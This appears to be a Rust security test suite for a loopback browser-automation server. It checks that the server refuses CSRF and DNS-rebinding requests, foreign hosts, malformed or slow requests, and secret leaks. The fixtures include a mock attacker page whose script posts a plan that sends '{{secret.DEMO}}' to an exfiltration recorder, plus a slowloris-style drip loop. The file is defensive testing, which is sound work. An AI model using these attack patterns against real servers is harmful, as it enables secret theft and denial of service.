//! What a web page, another site or a request cannot make a tokenless loopback `serve` do:
//! start runs with a `text/plain` body, answer a foreign `Host` or a cross-site `Origin`, or
//! send a server secret anywhere but the hosts it is bound to.

use crate::util;
use crate::util::serve::ServeProcess;

use std::time::{Duration, Instant};

use axum::Router;
use axum::response::Html;
use axum::routing::get;
use planlock::runner::RunSpec;
use serde_json::{Value, json};

const SECRET: &str = "hunter2-operator-secret";

/// A page on another origin (127.0.0.2) whose script posts a run to the server the way any
/// page can: `no-cors`, `text/plain`, no preflight. The plan sends `{{secret.DEMO}}` to
/// `exfil` (a recorder on 127.0.0.2) and allows that host itself.
fn attacker_page(server: &str, exfil: &str) -> std::net::SocketAddr {
    let plan = json!({"reasoning": "", "steps": [
        {"type": "navigate", "url": format!("http://{exfil}/?s={{{{secret.DEMO}}}}")},
        {"type": "done", "summary": "sent"}]});
    let body = json!({"plan": plan, "allowed_hosts": [exfil.split(':').next().unwrap()]});
    let html = format!(
        "<!doctype html><title>cat pictures</title><h1>cats</h1><script>\
         fetch({target}, {{method: 'POST', mode: 'no-cors', \
           headers: {{'content-type': 'text/plain'}}, body: {body}}});\
         </script>",
        target = serde_json::to_string(&format!("{server}/v1/runs")).unwrap(),
        body = serde_json::to_string(&body.to_string()).unwrap(),
    );
    let listener = util::rt()
        .block_on(tokio::net::TcpListener::bind("127.0.0.2:0"))
        .expect("bind 127.0.0.2 (Linux routes all of 127.0.0.0/8 to loopback)");
    let addr = listener.local_addr().unwrap();
    let app = Router::new().route("/", get(move || async move { Html(html) }));
    util::rt().spawn(async move { axum::serve(listener, app).await });
    addr
}

/// Visits the attacker's page in a real browser, as the operator would by browsing.
fn browse_to(page: std::net::SocketAddr) {
    let plan = util::plan(&format!(
        r#"{{"reasoning": "", "steps": [
            {{"type": "navigate", "url": "http://{page}/"}},
            {{"type": "wait_seconds", "seconds": 1}},
            {{"type": "done", "summary": "browsed"}}]}}"#
    ));
    let (result, _) = util::run_spec(RunSpec::new(plan));
    util::assert_succeeded(&result);
}

/// Waits a few seconds for the exfiltration to arrive; it must not.
fn assert_nothing_stolen(exfil: &util::Attacker, server: &ServeProcess) {
    let deadline = Instant::now() + Duration::from_secs(6);
    while Instant::now() < deadline {
        let hits = exfil.hits();
        assert!(
            !hits.iter().any(|h| h.contains(SECRET)),
            "the page made the server send its secret away: {hits:?}\n{}",
            server.stderr()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(
        !server.stderr().contains("started"),
        "a run started: {}",
        server.stderr()
    );
}

#[test]
fn a_web_page_cannot_drive_a_tokenless_loopback_server_to_leak_a_secret() {
    util::need_browser!();
    let server = ServeProcess::start(&[], &[("PLANLOCK_SECRET_DEMO", SECRET)]);
    let exfil = util::Attacker::start();
    let page = attacker_page(&server.base, &exfil.addr.to_string());
    browse_to(page);
    assert_nothing_stolen(&exfil, &server);
}

#[test]
fn a_declared_secret_still_cannot_be_sent_by_a_page() {
    util::need_browser!();
    let server = ServeProcess::start(
        &["--secret", "DEMO@shop.example"],
        &[("PLANLOCK_SECRET_DEMO", SECRET)],
    );
    let exfil = util::Attacker::start();
    let page = attacker_page(&server.base, &exfil.addr.to_string());
    browse_to(page);
    assert_nothing_stolen(&exfil, &server);
}

fn http() -> reqwest::Client {
    reqwest::Client::new()
}

fn trivial_run() -> Value {
    json!({"plan": {"reasoning": "", "steps": [{"type": "done", "summary": "nothing"}]}})
}

async fn error_of(response: reqwest::Response) -> (u16, Value) {
    let status = response.status().as_u16();
    let text = response.text().await.unwrap();
    let body = serde_json::from_str(&text)
        .unwrap_or_else(|_| panic!("{status}: not the JSON error shape: {text:?}"));
    (status, body)
}

#[test]
fn only_json_bodies_are_read() {
    if util::browser().is_none() {
        return;
    }
    let server = ServeProcess::start(&[], &[]);
    util::rt().block_on(async {
        for content_type in [
            Some("text/plain"),
            Some("application/x-www-form-urlencoded"),
            Some("multipart/form-data; boundary=x"),
            None,
        ] {
            let mut req = http()
                .post(server.url("/v1/runs"))
                .body(trivial_run().to_string());
            if let Some(ct) = content_type {
                req = req.header("content-type", ct);
            }
            let (status, body) = error_of(req.send().await.unwrap()).await;
            assert_eq!(status, 415, "{content_type:?}: {body}");
            assert_eq!(body["error"]["kind"], "unsupported_media_type");
            let message = body["error"]["message"].as_str().unwrap();
            assert!(message.contains("application/json"), "{message}");
        }
        // JSON with a charset, or a `+json` type, is JSON.
        for content_type in ["application/json; charset=utf-8", "Application/JSON"] {
            let response = http()
                .post(server.url("/v1/runs"))
                .header("content-type", content_type)
                .body(trivial_run().to_string())
                .send()
                .await
                .unwrap();
            assert_eq!(response.status(), 200, "{content_type}");
        }
    });
}

#[test]
fn a_foreign_host_or_a_cross_site_origin_is_refused() {
    if util::browser().is_none() {
        return;
    }
    let server = ServeProcess::start(&["--host-name", "planlock.internal"], &[]);
    let port = server.authority().rsplit(':').next().unwrap().to_string();
    util::rt().block_on(async {
        // DNS rebinding: a name the attacker controls now resolves to 127.0.0.1.
        for host in [
            format!("rebind.attacker.test:{port}"),
            "attacker.test".to_string(),
        ] {
            for path in ["/v1/runs", "/openapi.json"] {
                let (status, body) = error_of(
                    http()
                        .post(server.url(path))
                        .header("host", &host)
                        .json(&trivial_run())
                        .send()
                        .await
                        .unwrap(),
                )
                .await;
                assert_eq!(status, 403, "{host}{path}: {body}");
                assert_eq!(body["error"]["kind"], "forbidden_host", "{host}");
                let message = body["error"]["message"].as_str().unwrap();
                assert!(message.contains("its operator can add it"), "{message}");
                assert!(!message.contains("--"), "{message}");
            }
        }
        // A cross-site page (CSRF): the browser says where the request comes from.
        for origin in [
            "http://attacker.test",
            "null",
            &format!("http://127.0.0.1:{}", port.parse::<u16>().unwrap() ^ 1),
        ] {
            let (status, body) = error_of(
                http()
                    .post(server.url("/v1/runs"))
                    .header("origin", origin)
                    .json(&trivial_run())
                    .send()
                    .await
                    .unwrap(),
            )
            .await;
            assert_eq!(status, 403, "{origin}: {body}");
            assert_eq!(body["error"]["kind"], "cross_site_request", "{origin}");
        }
        let (status, body) = error_of(
            http()
                .post(server.url("/v1/runs"))
                .header("sec-fetch-site", "cross-site")
                .json(&trivial_run())
                .send()
                .await
                .unwrap(),
        )
        .await;
        assert_eq!(status, 403, "{body}");
        // The listen address, localhost, a configured name, and the server's own origin pass.
        for (host, origin) in [
            (format!("127.0.0.1:{port}"), None),
            (format!("localhost:{port}"), None),
            ("planlock.internal".to_string(), None),
            (
                format!("planlock.internal:{port}"),
                Some(format!("http://planlock.internal:{port}")),
            ),
        ] {
            let mut req = http()
                .post(server.url("/v1/runs"))
                .header("host", &host)
                .json(&trivial_run());
            if let Some(o) = &origin {
                req = req.header("origin", o);
            }
            let response = req.send().await.unwrap();
            assert_eq!(response.status(), 200, "{host} {origin:?}");
        }
    });
}

#[test]
fn an_undeclared_server_secret_is_not_readable_by_requests() {
    if util::browser().is_none() {
        return;
    }
    let server = ServeProcess::start(&[], &[("PLANLOCK_SECRET_UNDECLARED", SECRET)]);
    util::rt().block_on(async {
        let plan = json!({"reasoning": "", "steps": [
            {"type": "navigate", "url": format!("{}/form.html?s={{{{secret.UNDECLARED}}}}", util::site().url(""))},
            {"type": "done", "summary": "s"}]});
        let (status, body) = error_of(
            http()
                .post(server.url("/v1/runs"))
                .json(&json!({"plan": plan, "allowed_hosts": ["127.0.0.1"]}))
                .send()
                .await
                .unwrap(),
        )
        .await;
        assert_eq!(status, 422, "{body}");
        assert_eq!(body["error"]["kind"], "invalid_variables");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains("UNDECLARED"), "{message}");
        assert!(message.contains("operator can declare UNDECLARED"), "{message}");
        assert!(!message.contains("--"), "{message}");
        assert!(!message.contains(SECRET), "{message}");
    });
}

/// Sends `head` as raw bytes (clients refuse to build such requests) and reads the whole
/// answer: its status and its body.
fn raw_request(authority: &str, head: &str) -> (u16, String) {
    use std::io::{Read, Write};
    let mut tcp = std::net::TcpStream::connect(authority).unwrap();
    tcp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    tcp.write_all(head.as_bytes()).unwrap();
    let mut answer = Vec::new();
    let _ = tcp.read_to_end(&mut answer);
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let status = answer
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no status line in {answer:?}"));
    let body = answer
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default();
    (status, body)
}

#[test]
fn a_very_long_url_is_answered_in_the_error_shape() {
    if util::browser().is_none() {
        return;
    }
    let server = ServeProcess::start(&[], &[]);
    let long = format!("/v1/runs/{}", "a".repeat(100 * 1024));
    let (status, body) = raw_request(
        server.authority(),
        &format!("GET {long} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
    );
    assert_eq!(status, 414, "{body}");
    let body: Value = serde_json::from_str(&body)
        .unwrap_or_else(|_| panic!("414 without the JSON error shape: {body:?}"));
    assert_eq!(body["error"]["kind"], "uri_too_long");
    assert!(
        body["error"]["message"].as_str().unwrap().contains("KiB"),
        "{body}"
    );
    // A request line that is not HTTP at all.
    let (status, body) = raw_request(server.authority(), "GARBAGE\r\n\r\n");
    assert_eq!(status, 400, "{body}");
    let body: Value = serde_json::from_str(&body)
        .unwrap_or_else(|_| panic!("400 without the JSON error shape: {body:?}"));
    assert_eq!(body["error"]["kind"], "malformed_request");
    // The server goes on answering.
    let (status, _) = raw_request(
        server.authority(),
        "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    );
    assert_eq!(status, 200);
}

/// A config over the shared browser with `DEMO` bound to `hosts` (in-process: no
/// environment needed).
fn with_bound_secret(hosts: &[&str]) -> Option<planlock::server::ServerConfig> {
    util::site();
    let browser = util::browser()?;
    let mut config =
        planlock::server::ServerConfig::new(planlock::server::BrowserSource::Shared(browser));
    let hosts: Vec<String> = hosts.iter().map(|h| h.to_string()).collect();
    config.secrets = planlock::runner::Secrets::none()
        .with_bound("DEMO", SECRET, &hosts)
        .unwrap();
    Some(config)
}

async fn post_run(state: &planlock::server::AppState, body: &Value) -> (u16, Value) {
    use tower::ServiceExt;
    let req = axum::http::Request::post("/v1/runs")
        .header("host", "127.0.0.1")
        .header("content-type", "application/json")
        .body(axum::body::Body::from(body.to_string()))
        .unwrap();
    let response = planlock::server::app(state.clone())
        .oneshot(req)
        .await
        .unwrap();
    let status = response.status().as_u16();
    let bytes = axum::body::to_bytes(response.into_body(), 1 << 24)
        .await
        .unwrap();
    (status, serde_json::from_slice(&bytes).unwrap())
}

#[test]
fn a_server_secret_goes_only_to_the_hosts_it_is_bound_to() {
    let Some(config) = with_bound_secret(&["127.0.0.1"]) else {
        return;
    };
    let state = crate::serve::started(config);
    let state_elsewhere = crate::serve::started(with_bound_secret(&["shop.example"]).unwrap());
    let exfil = util::Attacker::start();
    let site = util::site().url("");
    util::rt().block_on(async {
        // Within its hosts: the run uses it, and never shows it.
        let plan = json!({"reasoning": "", "steps": [
            {"type": "navigate", "url": format!("{site}/form.html")},
            {"type": "fill", "describe": "name", "label": "Full name", "value": "{{secret.DEMO}}"},
            {"type": "click", "describe": "submit", "text": "Create account"},
            {"type": "wait_for_text", "text": "Welcome aboard"},
            {"type": "done", "summary": "signed up"}]});
        let (status, result) = post_run(
            &state,
            &json!({"plan": plan, "allowed_hosts": ["127.0.0.1"]}),
        )
        .await;
        assert_eq!(status, 200, "{result}");
        assert_eq!(result["status"], "succeeded", "{result}");
        assert!(!result.to_string().contains(SECRET), "{result}");

        // A lock that reaches beyond them is refused before anything runs.
        let exfil_host = exfil.addr.ip().to_string();
        let plan = json!({"reasoning": "", "steps": [
            {"type": "navigate", "url": format!("{site}/form.html")},
            {"type": "navigate", "url": format!("http://{}/?s={{{{secret.DEMO}}}}", exfil.addr)},
            {"type": "done", "summary": "sent"}]});
        let (status, body) = post_run(
            &state,
            &json!({"plan": plan, "allowed_hosts": ["127.0.0.1", exfil_host]}),
        )
        .await;
        if exfil_host != "127.0.0.1" {
            assert_eq!(status, 422, "{body}");
            assert_eq!(body["error"]["kind"], "secret_not_allowed");
            let message = body["error"]["message"].as_str().unwrap();
            assert!(message.contains("secret.DEMO"), "{message}");
            assert!(message.contains(&exfil_host), "{message}");
            assert!(message.contains("127.0.0.1"), "{message}");
        }
        // A secret bound elsewhere cannot be used here at all.
        let plan = json!({"reasoning": "", "steps": [
            {"type": "navigate", "url": format!("{site}/form.html?s={{{{secret.DEMO}}}}")},
            {"type": "done", "summary": "sent"}]});
        let (status, body) = post_run(
            &state_elsewhere,
            &json!({"plan": plan.clone(), "allowed_hosts": ["127.0.0.1"]}),
        )
        .await;
        assert_eq!(status, 422, "{body}");
        assert_eq!(body["error"]["kind"], "secret_not_allowed");
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains("may only be sent to shop.example"),
            "{body}"
        );
        // A value the request brings itself is the caller's own, usable anywhere.
        let (status, result) = post_run(
            &state_elsewhere,
            &json!({"plan": plan, "allowed_hosts": ["127.0.0.1"], "secrets": {"DEMO": "mine"}}),
        )
        .await;
        assert_eq!(status, 200, "{result}");
        assert_eq!(result["status"], "succeeded", "{result}");
    });
    assert!(
        !exfil.hits().iter().any(|h| h.contains(SECRET)),
        "{:?}",
        exfil.hits()
    );
}

#[test]
fn a_missing_repeated_or_non_ascii_host_is_refused() {
    if util::browser().is_none() {
        return;
    }
    let server = ServeProcess::start(&[], &[]);
    for (what, head) in [
        ("missing", "GET /v1/schema/plan HTTP/1.1\r\nConnection: close\r\n\r\n".to_string()),
        ("HTTP/1.0 without one", "GET /v1/schema/plan HTTP/1.0\r\n\r\n".to_string()),
        (
            "repeated",
            "GET /v1/schema/plan HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: attacker.test\r\nConnection: close\r\n\r\n"
                .to_string(),
        ),
        (
            "not ASCII",
            "GET /v1/schema/plan HTTP/1.1\r\nHost: 127.0.0.1\u{e9}\r\nConnection: close\r\n\r\n"
                .to_string(),
        ),
    ] {
        let (status, body) = raw_request(server.authority(), &head);
        assert_eq!(status, 400, "{what}: {body}");
        let body: Value = serde_json::from_str(&body).unwrap_or_else(|_| panic!("{what}: {body}"));
        assert_eq!(body["error"]["kind"], "bad_host", "{what}: {body}");
    }
    let (status, _) = raw_request(
        server.authority(),
        "GET /v1/schema/plan HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    );
    assert_eq!(status, 200);
}

#[test]
fn slow_clients_are_cut_off() {
    use std::io::{Read, Write};
    if util::browser().is_none() {
        return;
    }
    // The default read timeout (10 s): connections that drip their head, or say nothing,
    // are closed; a body that stops halfway is answered 408.
    let server = ServeProcess::start(&[], &[]);
    let started = std::time::Instant::now();
    let mut drips: Vec<std::net::TcpStream> = (0..200)
        .map(|i| {
            let mut tcp = std::net::TcpStream::connect(server.authority()).unwrap();
            if i % 2 == 0 {
                tcp.write_all(b"POST /v1/runs HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                    .unwrap();
            }
            tcp.set_nonblocking(true).unwrap();
            tcp
        })
        .collect();
    let mut body = std::net::TcpStream::connect(server.authority()).unwrap();
    body.write_all(
        b"POST /v1/runs HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n\
          Content-Length: 100\r\n\r\n{\"plan\": ",
    )
    .unwrap();
    body.set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let mut open = drips.len();
    while open > 0 && started.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(250));
        open = 0;
        for tcp in &mut drips {
            // One more byte of header every round, as a drip-feeding client sends.
            let _ = tcp.write_all(b"X");
            let mut buf = [0u8; 64];
            match tcp.read(&mut buf) {
                Ok(0) => {}
                Err(e)
                    if e.kind() == std::io::ErrorKind::WouldBlock
                        || e.kind() == std::io::ErrorKind::TimedOut =>
                {
                    open += 1
                }
                _ => {}
            }
        }
    }
    assert_eq!(
        open, 0,
        "{open} of 200 slow connections were still open after 20 s"
    );
    assert!(
        started.elapsed() >= Duration::from_secs(9),
        "cut off before the timeout"
    );
    let mut answer = Vec::new();
    let _ = body.read_to_end(&mut answer);
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("body_timeout"), "{answer}");
    // The server still answers.
    let (status, _) = raw_request(
        server.authority(),
        "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    );
    assert_eq!(status, 200);
}

#[test]
fn a_json_body_may_start_with_a_byte_order_mark() {
    if util::browser().is_none() {
        return;
    }
    let server = ServeProcess::start(&[], &[]);
    util::rt().block_on(async {
        let body = format!("\u{feff}{}", trivial_run());
        let response = http()
            .post(server.url("/v1/runs"))
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200);
        let result: Value = response.json().await.unwrap();
        assert_eq!(result["status"], "succeeded", "{result}");
    });
}
